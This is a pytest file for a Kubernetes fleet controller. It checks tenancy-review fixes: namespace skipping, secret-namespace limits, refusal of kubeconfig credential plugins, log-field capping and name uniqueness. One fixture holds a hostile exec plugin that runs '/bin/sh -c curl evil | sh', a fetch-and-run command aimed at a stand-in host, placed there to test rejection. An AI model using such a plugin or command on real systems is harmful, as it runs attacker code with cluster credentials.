"""The smaller gaps of the tenancy review (finding 5), on plain data.

Covered: every ``kube-*`` hub namespace is skipped (not only three exact names); a
MemberCluster cannot point at a kubeconfig Secret outside ``fleet.secretNamespace``; a
Secret-sourced kubeconfig with an exec or auth-provider plugin is refused (the controller
would run that command); log fields are capped; two workloads whose names share a long
prefix get different Dispatch names.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest
import yaml

from dispatcher.control.caches import HubCache
from dispatcher.control.catalog import LiveCatalog
from dispatcher.control.core.record import dispatch_name
from dispatcher.control.observe import FIELD_LIMIT, cap_fields
from dispatcher.control.watchers import HubWatchers
from dispatcher.fleet.kubeconfigs import KubeconfigProblem, from_secret
from dispatcher.fleet.members import from_member_cluster
from dispatcher.workloads.catalog import Catalog


def _watchers() -> HubWatchers:
    return HubWatchers(hub=None, live=LiveCatalog(Catalog.builtin()), cache=HubCache(),  # type: ignore[arg-type]
                       kick=lambda uid: None, namespaces=(), label_selector="",
                       skip_namespaces=frozenset({"dispatcher-system"}))


@pytest.mark.parametrize(("namespace", "wanted"), [
    ("team-a", True), ("kube-system", False), ("kube-flannel", False),
    ("kube-anything", False), ("dispatcher-system", False), ("kubeflow", True)])
def test_every_kube_namespace_is_skipped(namespace: str, wanted: bool) -> None:
    assert _watchers()._wanted({"metadata": {"namespace": namespace}}) is wanted


def test_membercluster_secret_outside_the_secret_namespace_is_refused() -> None:
    obj = {"metadata": {"name": "m1"},
           "spec": {"kubeconfigSecretRef": {"namespace": "team-a", "name": "stolen"}}}
    with pytest.raises(ValueError, match=r"fleet\.secretNamespace"):
        from_member_cluster(obj, default_namespace="dispatcher-system")
    obj["spec"]["kubeconfigSecretRef"]["namespace"] = "dispatcher-system"
    assert from_member_cluster(obj, default_namespace="dispatcher-system").secret is not None


def _secret(user: dict[str, Any]) -> dict[str, Any]:
    kubeconfig = {"apiVersion": "v1", "kind": "Config", "current-context": "c",
                  "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
                  "users": [{"name": "u", "user": user}],
                  "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}]}
    text = base64.b64encode(yaml.safe_dump(kubeconfig).encode()).decode()
    return {"metadata": {"namespace": "dispatcher-system", "name": "m1-kubeconfig"},
            "data": {"kubeconfig": text}}


@pytest.mark.parametrize("user", [
    {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh",
              "args": ["-c", "curl evil | sh"]}},
    {"auth-provider": {"name": "gcp", "config": {"cmd-path": "/bin/sh"}}}])
def test_credential_plugins_in_a_secret_are_refused(user: dict[str, Any]) -> None:
    with pytest.raises(KubeconfigProblem, match="credential plugin") as caught:
        from_secret(_secret(user))
    assert caught.value.reason == "KubeconfigInvalid"
    assert "curl" not in str(caught.value)  # never quoted back


def test_a_token_kubeconfig_in_a_secret_is_fine() -> None:
    assert from_secret(_secret({"token": "t"}))["users"][0]["user"]["token"] == "t"


def test_log_fields_are_capped() -> None:
    event = cap_fields(None, "info", {"event": "x", "selector": "a" * 250_000,
                                      "nested": {"reason": ["b" * 5000]}, "n": 3})
    assert len(event["selector"]) < FIELD_LIMIT + 40
    assert event["selector"].endswith(f"(+{250_000 - FIELD_LIMIT} chars)")
    assert len(event["nested"]["reason"][0]) < FIELD_LIMIT + 40
    assert event["n"] == 3


def test_long_names_sharing_a_prefix_get_different_dispatches() -> None:
    prefix = "x" * 242
    names = {dispatch_name({"kind": "JobSet", "metadata": {"name": prefix + tail}})
             for tail in ("-aaaaaaaaa", "-bbbbbbbbb")}
    assert len(names) == 2
    assert all(len(n) <= 253 for n in names)
    assert dispatch_name({"kind": "Job", "metadata": {"name": "eval"}}) == "job-eval"
